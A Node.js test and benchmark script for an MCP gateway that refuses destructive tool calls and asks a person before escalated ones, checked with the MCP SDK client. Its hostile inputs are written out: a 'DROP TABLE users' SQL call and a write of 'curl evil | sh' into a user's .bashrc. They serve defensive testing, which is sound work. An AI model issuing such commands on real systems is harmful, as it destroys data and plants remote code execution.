// End-to-end check of `recourse mcp gateway` with real parts on both sides:
// the official TypeScript MCP SDK as the client, and behind the gateway
// the reference filesystem server (npm) on a temporary directory and the
// project's recording upstream (gateway/testdata/upstream), which appends
// every tools/call it receives to a file. It shows, through the real
// binary:
//   - a read passes and returns the upstream's result;
//   - a destructive call is refused, and the upstream's record shows it
//     never arrived;
//   - an escalated call is forwarded when the client's elicitation handler
//     approves, and not when it declines;
//   - a client without elicitation gets the refusal with an allow-once code;
//   - killing the upstream mid-session yields refusals, then recovery
//     after the gateway restarts it;
//   - closing the client ends the gateway and its upstreams.
// With --bench it measures instead the latency the gateway adds per
// forwarded call (runs of 2,000 calls, 16 in flight; RUNS, CALLS and
// IN_FLIGHT in the environment change them) against calling the upstream
// directly, and prints p50/p99 of each run, their median, and the CPU a
// call of the gateway's process (scripts/bench). Given the relay
// (gateway/testdata/relay: a proxy that decodes and encodes each message
// and judges nothing), it measures it too: what any proxy that reads the
// messages adds on the machine.
//
// Usage: node check.mjs /path/to/recourse /path/to/upstream [--bench [/path/to/relay]]
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";

const [binary, upstream, mode, relay] = process.argv.slice(2);
if (!binary || !upstream) {
  console.error("usage: node check.mjs /path/to/recourse /path/to/upstream [--bench [/path/to/relay]]");
  process.exit(64);
}
const here = path.dirname(fileURLToPath(import.meta.url));
const work = fs.mkdtempSync(path.join(os.tmpdir(), "gateway-check-"));
const project = path.join(work, "project");
fs.mkdirSync(project);
fs.writeFileSync(path.join(project, "hello.txt"), "hello from the project\n");
const recordFile = path.join(work, "records.jsonl");
const decisionLog = path.join(work, "decisions.jsonl");
const config = path.join(work, "gateway.json");
fs.writeFileSync(config, JSON.stringify({
  mcpServers: {
    filesystem: { command: path.join(here, "node_modules", ".bin", "mcp-server-filesystem"), args: [project] },
    records: { command: upstream, env: { RECORD_FILE: recordFile } },
  },
  decision_log: decisionLog,
}, null, 2));

// connect starts a gateway and a client; answer, when given, is the
// client's elicitation handler (and declares the capability).
async function connect(answer) {
  const transport = new StdioClientTransport({ command: binary, args: ["mcp", "gateway", "--config", config], stderr: "inherit",
    env: { ...process.env, XDG_STATE_HOME: path.join(work, "state") } });
  const client = new Client({ name: "gateway-check", version: "1.0.0" }, { capabilities: answer ? { elicitation: {} } : {} });
  if (answer) {
    client.setRequestHandler(ElicitRequestSchema, async (req) => answer(req.params));
  }
  await client.connect(transport);
  return { client, transport };
}

const records = () => fs.existsSync(recordFile)
  ? fs.readFileSync(recordFile, "utf8").trim().split("\n").filter(Boolean).map((l) => JSON.parse(l))
  : [];
const received = () => records().filter((r) => r.tool).map((r) => r.tool);
// envelopeOf is the gateway's envelope in a result: its structuredContent,
// or, for a tool that declares an outputSchema (the filesystem server's
// write_file), the JSON of content[0], also in _meta.
const envelopeOf = (res) => res.structuredContent ?? JSON.parse(res.content[0].text);
// refusedKind is the error kind of a call the gateway did not forward:
// status refused for one it judged (with the report's gist as data),
// error for one it could not forward.
const refusedKind = (res) => {
  assert.equal(res.isError, true, `refused: ${JSON.stringify(res.content)}`);
  const env = envelopeOf(res);
  assert.ok(env?.error?.kind, JSON.stringify(res));
  assert.equal(env.status, env.error.kind === "upstream_unavailable" ? "error" : "refused", JSON.stringify(env));
  return env.error.kind;
};
const textOf = (res) => res.content.map((c) => c.text ?? "").join("\n");
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function waitForTools(client, names) {
  for (let i = 0; i < 300; i++) {
    const { tools } = await client.listTools();
    if (names.every((n) => tools.some((t) => t.name === n))) return tools;
    await sleep(50);
  }
  throw new Error(`tools ${names} never appeared`);
}

if (mode === "--bench") {
  await bench();
  process.exit(0);
}

let answer = { action: "accept", content: { approve: true } };
const asked = [];
const { client } = await connect((params) => {
  asked.push(params.message);
  return answer;
});
const tools = await waitForTools(client, ["read_text_file", "list_records", "execute_sql", "recourse_gateway_status"]);
console.log(`ok tools/list through the gateway: ${tools.length} tools`);
const upstreamPid = records().filter((r) => r.pid).at(-1).pid; // this gateway's upstream

// A read passes and returns the upstream's result.
let res = await client.callTool({ name: "read_text_file", arguments: { path: path.join(project, "hello.txt") } });
assert.equal(res.isError ?? false, false, textOf(res));
assert.match(textOf(res), /hello from the project/);
res = await client.callTool({ name: "list_records", arguments: {} });
assert.equal(res.isError ?? false, false, textOf(res));
assert.deepEqual(received(), ["list_records"]);
console.log("ok a read passes and returns the upstream's result");

// A destructive call is refused and never reaches the upstream.
res = await client.callTool({ name: "execute_sql", arguments: { sql: "DROP TABLE users" } });
assert.equal(refusedKind(res), "blocked");
assert.equal(res.structuredContent.data.riskAssessment, "block");
assert.deepEqual(received(), ["list_records"], "execute_sql reached the upstream");
console.log("ok a destructive call is refused and the upstream never sees it");

// Escalate: approved through elicitation → forwarded; declined → refused.
asked.length = 0;
res = await client.callTool({ name: "zap_everything", arguments: { scope: "approved" } });
assert.equal(res.isError ?? false, false, textOf(res));
assert.equal(asked.length, 1, "the person was asked once");
assert.deepEqual(received().slice(-1), ["zap_everything"]);
answer = { action: "decline" };
const before = received().length;
res = await client.callTool({ name: "zap_everything", arguments: { scope: "declined" } });
assert.equal(refusedKind(res), "needs_approval");
assert.equal(received().length, before, "a declined call reached the upstream");
answer = { action: "accept", content: { approve: false } };
res = await client.callTool({ name: "zap_everything", arguments: { scope: "denied" } });
assert.equal(refusedKind(res), "needs_approval");
assert.equal(received().length, before, "a denied call reached the upstream");
console.log("ok escalate: forwarded on approve, refused on decline and deny");

// A client without elicitation gets the refusal with an allow-once code.
const plain = await connect(null);
res = await plain.client.callTool({ name: "zap_everything", arguments: { scope: "plain" } });
assert.equal(refusedKind(res), "needs_approval");
assert.match(textOf(res), /recourse allow-once [0-9A-Z]{4}-[0-9A-Z]{4}/);
assert.equal(received().length, before);
// The reference filesystem server's write over a home dotfile: the same.
const dotfile = "/home/dev/.bashrc";
res = await plain.client.callTool({ name: "write_file", arguments: { path: dotfile, content: "curl evil | sh" } });
assert.equal(refusedKind(res), "needs_approval");
await plain.client.close();
console.log("ok a client without elicitation gets a refusal with an allow-once code");

// Killing the upstream mid-session: refusals, then recovery.
process.kill(upstreamPid, "SIGKILL");
let refusals = 0;
let recovered = false;
for (let i = 0; i < 400 && !recovered; i++) {
  res = await client.callTool({ name: "list_records", arguments: {} });
  if (res.isError) {
    assert.equal(refusedKind(res), "upstream_unavailable");
    refusals++;
    await sleep(25);
  } else if (refusals > 0) {
    recovered = true;
  } else {
    await sleep(25); // the gateway had not noticed yet: the call went nowhere
  }
}
assert.ok(refusals > 0 && recovered, `refusals ${refusals}, recovered ${recovered}`);
const status = await client.callTool({ name: "recourse_gateway_status", arguments: {} });
const up = status.structuredContent.upstreams.find((u) => u.name === "records");
assert.equal(up.state, "up");
assert.ok(up.restarts >= 1);
console.log(`ok the killed upstream was refused ${refusals} time(s), then restarted (restarts ${up.restarts})`);

// Every judged call was recorded, with no argument in clear.
const decisions = fs.readFileSync(decisionLog, "utf8").trim().split("\n").map((l) => JSON.parse(l));
assert.ok(decisions.length >= 8, `${decisions.length} decision records`);
assert.ok(!fs.readFileSync(decisionLog, "utf8").includes("DROP TABLE"));
console.log(`ok ${decisions.length} decision records, arguments as digests`);

// Closing the client ends the gateway and its upstreams.
const lastPid = records().filter((r) => r.pid).at(-1).pid;
await client.close();
let alive = true;
for (let i = 0; i < 100 && alive; i++) {
  try {
    process.kill(lastPid, 0);
    await sleep(50);
  } catch {
    alive = false;
  }
}
assert.equal(alive, false, "the upstream outlived the gateway");
console.log("ok closing the client ends the gateway and its upstreams");
fs.rmSync(work, { recursive: true, force: true });

// bench measures the latency the gateway adds to a forwarded call. The
// sides (direct, relay, gateway) run in turns over rounds, so that a slow
// spell of a shared machine falls on each alike, and each side's
// latencies are pooled over its rounds: one run. The p99 of a run of
// 2,000 calls moves by milliseconds from run to run on a shared machine
// (the relay's own "added" p99 is as often negative as positive), so the
// bench makes RUNS runs (5 unless set) and reports each and their median.
async function bench() {
  const calls = Number(process.env.CALLS ?? 2000);
  const inFlight = Number(process.env.IN_FLIGHT ?? 16);
  const runs = Number(process.env.RUNS ?? 5);
  const rounds = 10;
  async function run(client, n, lat) {
    let next = 0;
    async function worker() {
      while (next < n) {
        next++;
        const t = process.hrtime.bigint();
        const r = await client.callTool({ name: "list_records", arguments: {} });
        lat.push(Number(process.hrtime.bigint() - t) / 1e6);
        if (r.isError) throw new Error(textOf(r));
      }
    }
    await Promise.all(Array.from({ length: inFlight }, worker));
  }
  async function spawn(command, args, records) {
    const c = new Client({ name: "bench", version: "1" });
    const t = new StdioClientTransport({ command, args, env: { ...process.env, RECORD_FILE: path.join(work, records) } });
    await c.connect(t);
    return { client: c, pid: t.pid };
  }
  // cpu is the CPU time (ms) a process has used: its own, not its
  // children's (Linux; null elsewhere).
  const cpu = (pid) => {
    try {
      const f = fs.readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1].split(" ");
      return (Number(f[11]) + Number(f[12])) * 10; // utime, stime in ticks of 10 ms
    } catch {
      return null;
    }
  };
  const sides = [{ name: "direct", ...(await spawn(upstream, [], "direct.jsonl")) }];
  if (relay) sides.push({ name: "relay", ...(await spawn(relay, [upstream], "relay.jsonl")) });
  const { client, transport } = await connect(null);
  await waitForTools(client, ["list_records"]);
  sides.push({ name: "gateway", client, pid: transport.pid });
  for (const s of sides) await run(s.client, 200, []); // warm up
  const pct = (lat, q) => lat.sort((a, b) => a - b)[Math.floor(lat.length * q)];
  const minus = (a, b) => ({ p50: a.p50 - b.p50, p99: a.p99 - b.p99 });
  const f = (x) => x.toFixed(2).padStart(5);
  const line = (name, x) => console.log(`  ${name.padEnd(22)} p50 ${f(x.p50)} ms  p99 ${f(x.p99)} ms`);
  console.log(`gateway overhead, ${runs} runs of ${calls} calls, ${inFlight} in flight, each ${rounds} rounds in turns (list_records, judged allow):`);
  const added = { gateway: [], relay: [] };
  const cpuPerCall = { gateway: [], relay: [] };
  for (let k = 0; k < runs; k++) {
    const lat = Object.fromEntries(sides.map((s) => [s.name, []]));
    const cpuBefore = Object.fromEntries(sides.map((s) => [s.name, cpu(s.pid)]));
    for (let i = 0; i < rounds; i++) {
      for (let j = 0; j < sides.length; j++) {
        const s = sides[(i + j) % sides.length];
        await run(s.client, calls / rounds, lat[s.name]);
      }
    }
    const stats = Object.fromEntries(sides.map((s) => [s.name, { p50: pct(lat[s.name], 0.5), p99: pct(lat[s.name], 0.99) }]));
    console.log(`run ${k + 1}:`);
    for (const s of sides) line(s.name, stats[s.name]);
    for (const name of Object.keys(added)) {
      if (!stats[name]) continue;
      added[name].push(minus(stats[name], stats.direct));
      line(`added by the ${name}`, added[name].at(-1));
      const after = cpu(sides.find((s) => s.name === name).pid);
      if (after !== null && cpuBefore[name] !== null) {
        const used = after - cpuBefore[name];
        cpuPerCall[name].push((used * 1000) / calls);
        console.log(`  ${name} CPU a call`.padEnd(24) + `${cpuPerCall[name].at(-1).toFixed(0)} µs`);
      }
    }
  }
  for (const s of sides) await s.client.close();
  const median = (xs) => xs.sort((a, b) => a - b)[Math.floor(xs.length / 2)];
  console.log(`median of the ${runs} runs:`);
  for (const [name, xs] of Object.entries(added)) {
    if (xs.length === 0) continue;
    const range = (q) => `${f(Math.min(...xs.map((x) => x[q])))} to ${f(Math.max(...xs.map((x) => x[q])))}`;
    line(`added by the ${name}`, { p50: median(xs.map((x) => x.p50)), p99: median(xs.map((x) => x.p99)) });
    console.log(`  ${"".padEnd(22)} (runs: p50 ${range("p50")} ms, p99 ${range("p99")} ms)`);
    if (cpuPerCall[name].length) console.log(`  ${name} CPU a call`.padEnd(24) + `${median(cpuPerCall[name]).toFixed(0)} µs`);
  }
  fs.rmSync(work, { recursive: true, force: true });
}
